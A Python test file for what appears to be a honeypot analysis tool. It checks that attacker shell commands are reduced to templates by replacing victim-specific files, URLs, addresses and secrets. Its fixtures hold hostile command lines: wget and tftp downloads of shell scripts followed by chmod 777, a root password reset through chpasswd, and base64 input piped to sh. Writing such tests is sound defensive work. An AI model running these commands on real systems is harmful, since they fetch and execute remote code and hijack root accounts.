"""Command lines without what changes from one victim to the next."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from mirage.analysis.templates import MAX_LINE, program, templates


@pytest.mark.parametrize(
    ("one", "other", "wanted"),
    [
        (
            "cd /tmp; wget http://192.0.2.1/a.sh -O a.sh && chmod 777 a.sh",
            "cd /dev/shm; wget http://198.51.100.9:8080/xk/b.sh -O qq.sh && chmod 777 qq.sh",
            ("cd <file>", "wget <url> -O <file>.sh", "chmod 777 <file>.sh"),
        ),
        ("tftp 192.0.2.1 -c get one.sh", "tftp 203.0.113.4 -c get two.sh", ("tftp <address> -c <file> <file>.sh",)),
        ("/usr/bin/tee /usr/bin/mhhxtw > /dev/null", "tee /usr/bin/kqzvbd > /dev/null", ("tee <file> > /dev/null",)),
        ('echo "root:Ab12cd"|chpasswd', "echo 'root:other9'|chpasswd", ("echo <secret>", "chpasswd")),
        ("./x1", "/tmp/.q/run", ("<file>",)),
        ("echo " + "QUJD" * 9 + "|base64 -d|sh", "echo " + "ZGVm" * 50 + "|base64 -d|sh", ("echo <data>", "base64 -d", "sh")),
        ("sleep 5", "sleep 31", ("sleep <number>",)),
        ("$(uname -m)", "`uname -m`", ("uname -m",)),
    ],
)
def test_what_varies_is_a_class(one: str, other: str, wanted: tuple[str, ...]) -> None:
    assert (templates(one), templates(other)) == (wanted, wanted)


def test_what_says_something_stays() -> None:
    assert templates("cat /proc/cpuinfo | grep name | wc -l; chmod +x k; chmod 0777 k") == (
        "cat /proc/cpuinfo", "grep name", "wc -l", "chmod +x <file>", "chmod 0777 <file>",
    )  # fmt: skip
    assert program("cat /proc/cpuinfo") == "cat"


@given(st.text(alphabet=st.characters(), max_size=300))
@example("'")
@example("/")
@example("/bin/")
def test_any_text_has_templates(text: str) -> None:
    assert all(templates(text))


@pytest.mark.parametrize("text", [":" * 9000 + "x", "b" * 9000, "'" * 9001, '"\\' * 5000, "$(" * 5000, "echo " + ":" * 79 + "x"])
def test_only_the_beginning_of_a_line_is_read(text: str) -> None:
    assert templates(text) == templates(text[:MAX_LINE])
